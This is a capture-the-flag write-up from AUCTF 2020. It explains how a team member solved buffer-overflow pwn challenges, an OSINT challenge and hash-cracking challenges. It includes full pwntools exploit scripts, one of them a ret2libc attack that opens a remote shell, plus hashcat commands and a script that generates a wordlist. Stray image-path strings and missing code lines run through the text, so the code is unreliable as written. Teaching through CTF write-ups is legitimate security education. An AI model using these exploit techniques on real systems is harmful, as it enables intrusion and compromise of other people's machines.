Back to blog home

AUCTF 2020 Writeup

Posted on 11th April 2020

Last week I had the opportunity to participate in AUCTF 2020 with the team MonSec, which is a Capture the Flag cybersecurity competition where teams try to "hack into" purposefully vulnerable applications. The Monash Cyber Security Club MonSec did extremely well and out of hundreds of teams placed 9th overall! This post aims to complement Leo's writeup with a few of the challenges I had a hand in solving. I would also like to thank the organisers for this impressive competition with unique categories including password cracking and trivia. Anyway, enjoy!

House of Madness (pwn)

This challenge did cause me to get a bit mad, I'll give it that.
The crux of the challenge was to read the flag given a buffer overflow vulnerability. But how do with find it? There is a lot of fluff in the code, but eventually you will find that you need to enter room 4 and say the magic word Stephen. The binary gives lots of hints, particularly the Quit option which hands it to you on a plate. But what do we do in room 4? Let's disassemble the room4 function with radare it and see how the input is handled...

Disassembly of room4 function in House of Madness binary, showing a call to gets.

It uses gets, meaning buffer overflow is almost inevitable! Using pwn cyclic we get a nice pattern to get the offset we need to the return address, and we can call it a day... except not quite. The executable is compiled with PIE. This means that almost everything in the binary is at some offset. Luckily for us, ASLR is turned off so this offset will not vary between each time the executable is run (thanks bad5ect0r for telling me about this!). Using pwn cyclic again with our debugger (in my case radare) we see that ebx, the register which stores this offset, is 8 bytes before the return address. In order to achieve reliable codeexecution, we will need to keep this value exactly the same after our overflow, otherwise other function calls will likely fail miserably. Since I was a PIE noob, I wrote a function leak_base_pie() to determine the correct ebx value on the remote through brute force. Turns out it is exactly the same as on my host machine, 0x56559000.

Cool, we have the ebx value and we can control the return address. Where do we return to? Let's look at the list of functions...

Function listing of House of Madness binary, with get_flag highlighted.

get_flag sounds extremely promising, doesn't it? So I return there, but of course it is not that simple - the function wants more from us. Since the assembly is getting a bit dense, let's whip out Ghidra.

Decompiled get_flag through Ghidra.

I tried tofulfil the requirements of the function but I soon gave up and decided to go full hackerman. It was time to ret2libc. Of course the problem was I did not know what libc version ran on the remote server and did not know the correct offsets. By taking advantage of the puts function and giving it the GOT address entries, I could get the "real" addresses of a few functions, including of puts itself and printf. How did I call puts without using its address? I used the more "abstract" PLT address which is always the same (given the PIE offset is the same). pwntools conveniently abstracts this away through the symbols dictionary (addresses you can "just call", for libc functions usually in the PLT as far as I am concerned) and got dictionary for the function pointer table of dynamically resolved addresses. Anyway, the reason we need to do all this is because we want to call system which is never actually called in the binary, and the only way to do that is to get its "real" address. Using libc database search and the two addresses I leaked of puts and printf, we quickly see that the remote server is running With a tad of arithmetic we can easily calculate the right offset to call system with the argument "/bin/sh" which gives us aremote shell. From there, we can extract the flag, and much more if we wanted to.

My extremely-production-grade code to do the above steps is below, some lines are commented because they only needed to be run once (e.g. leaking the real addresses).

from pwn import *


elf = ELF('./challenge')
#libc = ELF('./')
libc = ELF('')  # found through libc database after leaking puts and printf
func_get_flag = elf.symbols['get_flag']
got_puts =['puts']
got_printf =['printf']
func_puts = elf.symbols['puts']
offset_puts = libc.symbols['puts']
offset_printf = libc.symbols['printf']
offset_system = libc.symbols['system']
offset_bin_sh = next('/bin/sh\x00'))

padding_to_ret = 'A'*28
padding_to_ebx = 'A'*20

# on my machine, base_pie = 0x56559000

def initialise():
    #p = remote('localhost', 9999)
    p = remote('', 30012)
    return p

def overflow_ebx(p, value):
    p.sendline(padding_to_ebx + p32(value))

def leak_base_pie():
    for i in range(0xff+1):
        p = initialise()
        guess = 0x56550000 + (i * 0x1000)'Guess: ' + hex(guess))
        overflow_ebx(p, guess)
        result = ''
        # try-except we can handle sudden EOF, but also handle timeout case beauce pwntools just sends ''
            result = p.recvline(timeout=TIMEOUT)
            if len(result) == 0:
                log.warning('Hit timeout')
        except EOFError:
        if len(result) != 0:
            # something was correctly puts-ed, so we guessed right!
            log.success('Correct ebx found: ' + hex(guess))
            return guess
    log.failure('Could not find correct ebx')
    return False

def overflow_ret(p, ebx, value):
    p.sendline(padding_to_ebx +p32(ebx) + 'AAAA' + value)

def leak_address(address):
    p = initialise()
    overflow_ret(p, base_pie, p32(base_offset + func_puts) + 'AAAA' + p32(address))
    return u32(p.recv(4))

#base_pie = leak_base_pie()
# found by running the above function
# yes it is the same as on my machine :O
base_pie = 0x56559000
base_offset = base_pie - 0x4000  # i dunno where this 0x4000 is from but it is necessary to ensure correct offset (just look at debugger)

#puts_address = leak_address(base_offset + got_puts)
#puts_address =0xf7e4a3b0  # local
puts_address = 0xf7e78b80
#printf_address = leak_address(base_offset + got_printf)
printf_address = 0xf7e62590
#printf_address = 0xf7e2e9a0  # local

libc_base = puts_address - offset_puts
if printf_address - offset_printf != libc_base:
    log.warning('Redundant libc base calculations do not match!')
    log.success('libc base calculated @ ' + hex(libc_base))

func_system = libc_base + offset_system
real_bin_sh = libc_base + offset_bin_sh

p = initialise()
overflow_ret(p, base_pie, p32(func_system) + 'AAAA' + p32(real_bin_sh))Remote School (pwn)

This challenge was more pleasant than House of Madness, mostly because I was warmed up :) so PIE was no longer a scary thing.

After looking at strings in the challenge memory, itwas clear that Hacker was alongside Algebra and CompSci. After the command attend Hacker we get a special screen, and then a segfault.

'Normal' execution of the Remote School binary, showing an address and a segmentation fault error.

After a bunch of flailing around, I figured out that the test function is where we need to look next. Although input is not directly taken here, we do perform things with the input, namely, copying it to another buffer.

Disassembly of teh test function in the Remote School binary

At first I did not believe the code was vulnerable, but after running pwn cyclic 3000 and feeding in the input it was clear that var_ch and var_10h were being overwritten. If you look at the numbers passed to strncpy as well as the offsets of each local variable, you will realise there are exactly 8 bytes of overflow. But what can we do with these 8 bytes? Well lucky for us the code then proceeds to load the variables into eax and edx. But we still can't overwrite the return address because our overflow is not large enough. Hmm...

Well actually, the binary very conveniently gives us a "write-what-where" primitive mov dword [eax], edx, and we control both of those registers! So, we find out the exact address on the stack where the return address is stored, and set eax to that. Then, we can simply set edx to wherever we want to return to. The print_flag function looks like the perfect target. Locally, the exploitexecutes fine and we are happy! But unfortunately the same cannot be said about the remote exploit... This is where that weird address that is printed just before the segfault comes in. Again, this is quite unrealistic, but the binary hands us a stack address. Doing basic arithmetic on the address that I get when running the binary locally versus what I get from running it on the remote server, we can easily get the correct offset and correctly overwrite eax. Thankfully, print_flag does not have any tricks up it's sleeve and kindly gives us the flag.

Again, the full code I used is provided below.

from pwn import *


elf = ELF('./online')
bss = elf.bss()
func_print_flag = elf.symbols['print_flag']

base_pie = 0x56559000 - 0x4000  # via debugger observation (ebx - the constant to actually be able to add things)
bss_virtual = base_pie + bss

some_server_address = 0xffff9bb8  # printed after taking input in `attend Hacker`
that_address_locally = 0xffff91b8
difference = some_server_address - that_address_locally

return_address_location = 0xffff91bc + difference

# what we are exploiting is buffer overflow in`test` function
offset_to_eax = 2052offset_to_edx = 2048

def arbitrary_write(p, address, value):
    p.sendline('attend Hacker')
    padding = 'A' * offset_to_edx
    payload =  padding
    payload += p32(value)   # edx = value
    payload += p32(address)  # eax = address (just some place we can write)
    # what happens is mov [eax], edx
    # we cannot overflow any further

#p = remote('localhost', 9999)
p = remote('', 30013)
p.sendline('some name')
arbitrary_write(p, return_address_location, base_pie + func_print_flag)

Good Old Days (OSINT)

We were stuck on this challenge for a lot longer than we would like to admit. The clue was "This site used to look a lot cooler." which immediately implied something like the Wayback Machine by However, looking at the index page or even the challenge page did not yield anything.

After doing a bunch of other challenges we decided to give this one a shot again. The Wayback Machine conveniently provides a sitemap feature that had one thing that immediately stood out: Why this particular user? Well guess what, that user was the flag.

Screenshot of's Wayback Machine's sitemap of, including

Big Mac(password cracking)

We are given

You might need this: thisisasecret
Hash: 5ee9fafd697e40593d66bef8427d40f8beca6921

The title of the challenge is a huge hint - that the hash is actually some sort of MAC. If we use a naive analyser to determine what type the hash is, such as this one, we are told it is sha1. Of course if we try to crack this now we get nowhere because we have not used thisisasecret and no MAC stuff was performed. Let's have a look what hashcat can do...

$ hashcat --help | grep -i sha | grep -i mac
    150 | HMAC-SHA1 (key = $pass)                          | Raw Hash, Authenticated
    160 | HMAC-SHA1 (key = $salt)                          | Raw Hash, Authenticated
   1450 | HMAC-SHA256 (key = $pass)                        | Raw Hash, Authenticated
   1460 | HMAC-SHA256 (key = $salt)                        | Raw Hash, Authenticated
   1750 | HMAC-SHA512 (key = $pass)                        | Raw Hash, Authenticated
   1760 | HMAC-SHA512 (key = $salt)                        | Raw Hash, Authenticated
  12000 | PBKDF2-HMAC-SHA1                                 | Generic KDF
  10900 | PBKDF2-HMAC-SHA256                               | Generic KDF
  12100 | PBKDF2-HMAC-SHA512| Generic KDF
  12001 | Atlassian (PBKDF2-HMAC-SHA1)                     | Generic KDF
   7300 | IPMI2 RAKP HMAC-SHA1                             | Network Protocols
  12800 | MS-AzureSync PBKDF2-HMAC-SHA256                  | Operating System
   7100 | macOS v10.8+ (PBKDF2-SHA512)                     | Operating System
  16300 | Ethereum Pre-Sale Wallet, PBKDF2-HMAC-SHA256     | Password Managers
  15600 | Ethereum Wallet, PBKDF2-HMAC-SHA256              | Password Managers
  18100 | TOTP (HMAC-SHA1)                                 | One-Time Passwords

They way that we pass the hash along with the salt in hashcat is simply 5ee9fafd697e40593d66bef8427d40f8beca6921:thisisasecret. I first tried mode 150 but did not get the result, so then I attempted 160.

$ hashcat -O -a 0 -m 160 5ee9fafd697e40593d66bef8427d40f8beca6921:thisisasecret wordlists/rockyou.txt

And theplaintext popped right out.

Mental (password cracking)

We are given

Password Format: Color-Country-Fruit
Hash: 17fbf5b2585f6aab45023af5f5250ac3

First I tried creating a couple wordlists by hand hoping that it would be something really simple and easy to guess like Red-USA-Apple. Unluckily for me, this was not the case, and I needed to build a custom wordlist. I found a fantastic resource for words at imsky's GitHub respository and this list of countries by kalinchernev. Now care needed to be taken to capitalise the first letter of each word, as given in the challenge question. So I did what I do best and hacked together a Python script.

colors = []
countries = []
fruits = []

with open('colors', 'r') as color_file:
    for color incolor_file:

with open('fruits', 'r') as fruit_file:
    for fruit in fruit_file:

with open('countries', 'r') as country_file:
    for country in country_file:

with open('wordlist', 'w') as f:
    for color in colors:
        for country in countries:
            for fruit in fruits:
                f.write(color.capitalize() + '-' + country.capitalize() + '-' + fruit.capitalize() + '\n')

Sure enough, simply feeding this tohashcat worked beautifully.